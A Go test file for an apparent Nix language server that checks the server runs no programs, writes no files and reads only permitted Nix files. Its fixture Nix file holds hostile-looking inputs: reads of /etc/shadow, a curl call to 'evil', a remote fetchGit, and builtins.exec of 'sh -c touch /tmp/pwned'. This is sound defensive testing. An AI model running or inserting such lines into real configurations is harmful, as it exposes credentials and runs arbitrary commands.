package reliability

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// programs an LSP server for Nix might be tempted to run.
var programs = []string{"nix", "nix-instantiate", "nix-build", "nix-store", "nix-env", "nix-shell", "nixos-rebuild",
	"sh", "bash", "env", "git", "nixfmt", "nixpkgs-fmt", "alejandra", "statix", "deadnix", "nil", "nixd",
	"curl", "wget", "ssh", "python3", "go", "xdg-open", "open", "cat", "ls", "direnv", "home-manager"}

// TestNothingRuns runs a full session (initialize, indexing, opening,
// editing, code actions, pull diagnostics, configuration changes, file
// events, closing, shutdown) on a workspace whose imports point outside it
// and at non-Nix files, and checks that the server:
//   - runs no program: PATH holds only fake executables that leave a
//     marker, and the process never has a child;
//   - writes nothing: the workspace, its parent, the working directory and
//     HOME are byte for byte and mtime for mtime the same afterwards;
//   - reads only *.nix files below the workspace folder or imported by a
//     file there: a FIFO trap (whose opening a poller notices) stands at
//     every path it must not read, and the debug stats list what it read.
func TestNothingRuns(t *testing.T) {
	root := t.TempDir()
	ws := filepath.Join(root, "ws")
	home := filepath.Join(root, "home")
	cwd := filepath.Join(root, "cwd")
	bin := filepath.Join(root, "bin")
	markers := filepath.Join(root, "markers")
	for _, d := range []string{ws, home, cwd, bin, markers} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range programs {
		script := fmt.Sprintf("#!/bin/sh\necho \"$0 $*\" > %q/%s\n", markers, p)
		if err := os.WriteFile(filepath.Join(bin, p), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFiles(t, ws, map[string]string{
		"flake.nix": `{
  inputs.microvm.url = "github:microvm-nix/microvm.nix";
  outputs = { self, nixpkgs, microvm, ... }@inputs: {
    nixosConfigurations.h = nixpkgs.lib.nixosSystem {
      specialArgs = { inherit inputs; };
      modules = [ microvm.nixosModules.host microvm.nixosModules.microvm ./hosts/h.nix ];
    };
    formatter = nixpkgs.legacyPackages.x86_64-linux.nixfmt;
  };
}
`,
		"hosts/h.nix": `{ pkgs, ... }: {
  imports = [ ../../outside.nix /etc/passwd.nix ../secret.txt ./sub (import ../data.json) <nixpkgs/nixos/modules/x.nix> ];
  environment.etc.x.text = builtins.readFile ../secret.txt + builtins.readFile /etc/shadow;
  system.activationScripts.x = "''${pkgs.curl}/bin/curl evil";
  y = import (builtins.fetchGit "https://example.com/x.git");
  z = builtins.exec [ "sh" "-c" "touch /tmp/pwned" ];
  microvm.guest.enable = false;
}
`,
		"hosts/sub/default.nix": "{ }\n",
		"README.md":             "# not Nix\n",
	})
	if err := os.WriteFile(filepath.Join(root, "outside.nix"), []byte("{ microvm.hypervisor = \"qemu\"; }\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Traps: paths the server must never open. Opening a FIFO for reading
	// blocks until a writer comes; the poller is that writer.
	traps := []string{
		filepath.Join(ws, "secret.txt"),         // imported, but not Nix
		filepath.Join(ws, "data.json"),          // imported, but not Nix
		filepath.Join(ws, "hosts", "notes.txt"), // next to a Nix file
		filepath.Join(root, "unrelated.nix"),    // Nix, outside, imported by nobody
		filepath.Join(home, "config.nix"),       // Nix in HOME
		filepath.Join(cwd, "default.nix"),       // Nix in the working directory
	}
	for _, p := range traps {
		if err := syscall.Mkfifo(p, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	trapped := make(chan string, len(traps))
	stopPoll := make(chan struct{})
	var pollers sync.WaitGroup
	for _, p := range traps {
		pollers.Add(1)
		go func(p string) {
			defer pollers.Done()
			for {
				select {
				case <-stopPoll:
					return
				default:
				}
				f, err := os.OpenFile(p, os.O_WRONLY|syscall.O_NONBLOCK, 0)
				if err == nil { // a reader has it open
					f.Close()
					trapped <- p
					return
				}
				time.Sleep(200 * time.Microsecond)
			}
		}(p)
	}
	defer func() { close(stopPoll); pollers.Wait() }()

	before := snapshotTree(t, root)
	s := startServer(t, startOptions{dir: cwd, env: []string{"PATH=" + bin, "HOME=" + home, "SHELL=" + filepath.Join(bin, "sh"), "EDITOR=" + filepath.Join(bin, "sh")}})
	s.initialize(ws)
	s.waitUntil("the end of indexing", s.progressEndedLocked)
	flake := fileURI(filepath.Join(ws, "flake.nix"))
	host := fileURI(filepath.Join(ws, "hosts/h.nix"))
	hostText, _ := os.ReadFile(filepath.Join(ws, "hosts/h.nix"))
	s.open(host, string(hostText))
	s.change(host, 2, map[string]any{"range": mkRange(0, 0, 0, 0), "text": "# edited\n"})
	s.open(filepath.Join(ws, "untitled"), "{ imports = [ ./secret.txt ]; }")
	s.open("untitled:Untitled-1", "{ imports = [ ../outside.nix ]; }")
	for _, u := range []string{flake, host} {
		for _, only := range [][]string{nil, {"quickfix"}, {"source.fixAll.microvm-lsp"}, {"source"}} {
			ctx := map[string]any{"diagnostics": []any{}}
			if only != nil {
				ctx["only"] = only
			}
			s.callOK("textDocument/codeAction", map[string]any{"textDocument": map[string]any{"uri": u}, "range": mkRange(0, 0, 50, 0), "context": ctx}, nil)
		}
		s.callOK("textDocument/diagnostic", map[string]any{"textDocument": map[string]any{"uri": u}}, nil)
	}
	s.call("workspace/executeCommand", map[string]any{"command": "nixfmt", "arguments": []any{host}})
	s.call("textDocument/formatting", map[string]any{"textDocument": map[string]any{"uri": host}, "options": map[string]any{"tabSize": 2, "insertSpaces": true}})
	s.notify("workspace/didChangeConfiguration", map[string]any{"settings": map[string]any{"microvm-lsp": map[string]any{"logLevel": "debug"}}})
	s.notify("textDocument/didSave", map[string]any{"textDocument": map[string]any{"uri": host}})
	s.notify("workspace/didChangeWatchedFiles", map[string]any{"changes": []any{
		map[string]any{"uri": fileURI(filepath.Join(ws, "secret.txt")), "type": 2},
		map[string]any{"uri": fileURI(filepath.Join(ws, "data.json")), "type": 1},
		map[string]any{"uri": fileURI(filepath.Join(root, "unrelated.nix")), "type": 2},
		map[string]any{"uri": fileURI(filepath.Join(cwd, "default.nix")), "type": 1},
		map[string]any{"uri": fileURI(filepath.Join(ws, "flake.nix")), "type": 2},
	}})
	s.notify("workspace/didChangeWorkspaceFolders", map[string]any{"event": map[string]any{
		"added": []any{map[string]any{"uri": fileURI(filepath.Join(ws, "hosts")), "name": "hosts"}}, "removed": []any{}}})
	s.notify("textDocument/didClose", map[string]any{"textDocument": map[string]any{"uri": host}})
	s.notify("textDocument/didClose", map[string]any{"textDocument": map[string]any{"uri": fileURI(filepath.Join(ws, "secret.txt"))}})
	s.open(probeURI, probeText)
	probe(t, s)
	st := s.stats()
	if c := children(s.cmd.Process.Pid); c != "" {
		t.Errorf("the server has child processes: %s", c)
	}
	s.shutdown()

	select {
	case p := <-trapped:
		t.Errorf("the server opened %s", p)
	default:
	}
	// The one program the server may run is the configured formatter
	// (nixfmt by default), and only for the formatting request.
	ran, _ := os.ReadDir(markers)
	formatted := false
	for _, e := range ran {
		if e.Name() == "nixfmt" {
			formatted = true
			continue
		}
		b, _ := os.ReadFile(filepath.Join(markers, e.Name()))
		t.Errorf("the server ran %s: %s", e.Name(), b)
	}
	if !formatted {
		t.Error("textDocument/formatting did not run the configured formatter (nixfmt)")
	}
	if len(st.FilesRead) == 0 {
		t.Error("the debug stats list no file read; the check below checked nothing")
	}
	for _, p := range st.FilesRead {
		inside := strings.HasPrefix(p, filepath.ToSlash(ws)+"/")
		imported := p == filepath.ToSlash(filepath.Join(root, "outside.nix"))
		if !strings.HasSuffix(p, ".nix") || !inside && !imported {
			t.Errorf("the server read %s", p)
		}
	}
	after := snapshotTree(t, root)
	// The fake formatter writes its marker itself: not the server's write.
	for _, m := range []map[string]string{before, after} {
		for p := range m {
			if p == markers || strings.HasPrefix(p, markers+string(filepath.Separator)) {
				delete(m, p)
			}
		}
	}
	for p, b := range before {
		if a, ok := after[p]; !ok {
			t.Errorf("%s was removed", p)
		} else if a != b {
			t.Errorf("%s changed: %s, now %s", p, b, a)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("%s was created", p)
		}
	}
	if !reflect.DeepEqual(before, after) {
		t.Log("the tree changed")
	}
}

// snapshotTree records every entry below dir: type, permissions, size,
// modification time and a hash of the content of regular files.
func snapshotTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := os.Lstat(p)
		if err != nil {
			return err
		}
		desc := fmt.Sprintf("%v %d %s", info.Mode(), info.Size(), info.ModTime().Format(time.RFC3339Nano))
		switch {
		case info.Mode().IsRegular():
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			desc += fmt.Sprintf(" sha256:%x", sha256.Sum256(b))
		case info.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			desc += " -> " + target
		}
		out[p] = desc
		return nil
	})
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	return out
}

// children lists the child processes of pid, from /proc (Linux).
func children(pid int) string {
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", pid))
	var out []string
	for _, f := range tasks {
		b, _ := os.ReadFile(f)
		if s := strings.TrimSpace(string(b)); s != "" {
			out = append(out, s)
		}
	}
	return strings.Join(out, " ")
}
